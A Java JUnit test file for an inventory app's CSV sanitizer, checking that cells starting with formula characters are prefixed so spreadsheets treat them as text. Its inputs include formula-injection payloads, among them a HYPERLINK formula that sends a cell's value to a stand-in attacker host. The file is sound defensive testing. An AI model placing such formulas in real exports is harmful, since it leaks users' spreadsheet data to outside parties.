package io.jobwright.inventory.item;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ItemCsvTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+49 30 901820",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\rx",
        "\nx",
        "＝1+1",
        "﹢1",
        "＠x",
        "=HYPERLINK(\"https://evil.example?\"&A1)"
      })
  void whatASpreadsheetWouldCalculateIsText(String text) {
    assertEquals("'" + text, ItemCsv.harmless(text));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Bolt;=1+1 | Bolt;'=1+1",
        "Nut;+cmd;x | Nut;'+cmd;x",
        "a;;-1;＝2 | a;;'-1;'＝2",
        "a;\"\"=1 | a;'\"\"=1",
        "a;\"\"1 | a;\"\"1"
      })
  void noCellOfAReaderThatSeparatesBySemicolonsIsCalculated(String text, String written) {
    assertEquals(written, ItemCsv.harmless(text));
  }

  @Test
  void noLineThatAReaderMayBeginInATextIsCalculated() {
    assertEquals("x\n'=1+1", ItemCsv.harmless("x\n=1+1"));
    assertEquals("'\n'=1+1", ItemCsv.harmless("\n=1+1"));
    assertEquals("x\r\n'\"=1+1", ItemCsv.harmless("x\r\n\"=1+1"));
    assertEquals("x\t=1+1", ItemCsv.harmless("x\t=1+1"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "PIPE-15", "1/2\" elbow", "3 - 5 mm", "'quoted'", "ünï"})
  void otherTextStaysAsItIs(String text) {
    assertEquals(text, ItemCsv.harmless(text));
  }
}
